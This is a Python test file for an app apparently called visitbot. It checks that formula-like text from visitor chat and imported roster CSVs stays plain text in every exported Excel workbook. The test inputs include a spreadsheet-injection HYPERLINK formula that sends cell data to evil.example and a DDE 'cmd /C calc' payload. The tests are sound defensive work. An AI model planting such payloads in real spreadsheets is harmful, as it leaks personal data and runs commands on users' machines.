"""Text that looks like a formula stays text in every workbook visitbot writes.

Visitor free text typed in chat and roster values imported from a township's file reach
the record forms, the lists, the ledger, the time bank, the monthly summary and the roster
export. Each workbook is read back cell by cell: no cell is a formula and the text is
shown as written. (tests/conftest.py also checks every workbook any test saves.)
"""

from __future__ import annotations

from datetime import date
from pathlib import Path

from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker

from store.models import Person, Visit
from store.reports.forms import export_subject_form, export_visit_form
from store.reports.lists import export_ledger, export_liuzhou
from store.reports.monthly import export_monthly
from store.reports.period import Month
from store.reports.timebank import export_timebank
from store.roster.export import export_roster
from store.roster.importer import import_roster
from store.workbook import FORMULA_PREFIXES
from tests.integration.chat_support import Chat, plan_visit, walk_checklist
from tests.integration.test_report_every_answer import DOUBLED
from tests.integration.test_roster_support import sample_rows, write_csv
from tests.world import build_world

EVIL = '=HYPERLINK("http://evil.example/?d="&B5&B6&E6,"点击查看详情")'
MONTH = Month(2026, 11)


def every_workbook(sessions: sessionmaker[Session], root: int, folder: Path,
                   id_number: str, visit_id: int | None = None) -> list[Path]:
    """Every kind of workbook visitbot makes, for one county."""
    out: list[Path] = []
    with sessions() as s:
        if visit_id is not None:
            out.append(export_visit_form(s, visit_id, "xlsx", folder / "form.xlsx"))
            out.append(export_subject_form(s, id_number, 2026, "xlsx", folder / "year.xlsx"))
        for annex in (1, 2, 3):
            out.append(export_liuzhou(s, [root], MONTH, annex, "xlsx",
                                      folder / f"liuzhou{annex}.xlsx"))
        out.append(export_ledger(s, [root], "xlsx", folder / "ledger.xlsx",
                                 as_of=date(2026, 11, 30)))
        out.append(export_ledger(s, [root], "xlsx", folder / "info.xlsx", id_number=id_number,
                                 as_of=date(2026, 11, 30)))
        out.append(export_timebank(s, [root], MONTH, "xlsx", folder / "timebank.xlsx"))
        out.append(export_monthly(s, [root], MONTH, "xlsx", folder / "monthly.xlsx",
                                  as_of=date(2026, 11, 30), with_charts=False, progress=False))
    export_roster(sessions, folder / "roster.xlsx")
    out.append(folder / "roster.xlsx")
    return out


def text_cells(paths: list[Path]) -> dict[str, list[str]]:
    """Every text cell of each workbook; fails on any formula cell."""
    seen: dict[str, list[str]] = {}
    for path in paths:
        wb = load_workbook(path)
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for c in row:
                    assert c.data_type != "f", f"{path.name}!{ws.title}!{c.coordinate}: {c.value}"
                    if isinstance(c.value, str):
                        seen.setdefault(path.name, []).append(c.value)
    return seen


def test_formula_typed_in_chat_is_text_everywhere(sessions: sessionmaker[Session],
                                                  tmp_path: Path) -> None:
    from bot.chat.service import Core
    from bot.settings import Settings

    w = build_world(sessions)
    plan_visit(sessions, w)
    c = Chat(sessions, None)  # type: ignore[arg-type]
    c.core = Core(sessions, Settings(database_url="sqlite://"), clock=lambda: c.now[0])
    walk_checklist(c, w.visitor, risky="none",
                   say={"other_needs": EVIL, "problems_handling": "@SUM(A1:A9)"})
    with sessions() as s:
        visit = s.scalars(select(Visit).where(Visit.subject_id == w.subject)).one()
        assert visit.status == "filed"
        id_number = s.get(Person, w.subject).id_number  # type: ignore[union-attr]
    seen = text_cells(every_workbook(sessions, w.county, tmp_path, id_number, visit.id))
    for name, values in seen.items():  # 示范县/东关镇/东关村 printed once each
        assert not DOUBLED.findall("".join(values)), name
    form = "\n".join(seen["form.xlsx"])
    assert EVIL in form and "@SUM(A1:A9)" in form  # shown as written, not run


def test_formula_in_the_roster_is_text_everywhere(sessions: sessionmaker[Session],
                                                  tmp_path: Path) -> None:
    headers, rows = sample_rows()
    hostile = {"住址": EVIL, "帮扶措施": "+cmd|' /C calc'!A0", "备注": "-2+3",
               "领取补贴情况": "@SUM(1,2)"}
    for r in rows:
        r.update(hostile)
    path = write_csv(tmp_path / "roster.csv", headers, rows)
    report = import_roster(sessions, path, policy_default="linzi-2022", today=date(2026, 11, 1))
    assert report.committed, report.errors
    with sessions() as s:
        person = s.scalars(select(Person).where(Person.id_number == rows[0]["身份证号码"])).one()
        county = person.jurisdiction
        while county is not None and county.level != "county":
            county = county.parent
        assert county is not None
        root = county.id
    seen = text_cells(every_workbook(sessions, root, tmp_path, rows[0]["身份证号码"]))
    for name in ("liuzhou1.xlsx", "ledger.xlsx", "info.xlsx", "monthly.xlsx"):
        assert any(v.startswith(FORMULA_PREFIXES) for v in seen[name]), name
        assert EVIL in seen[name], name
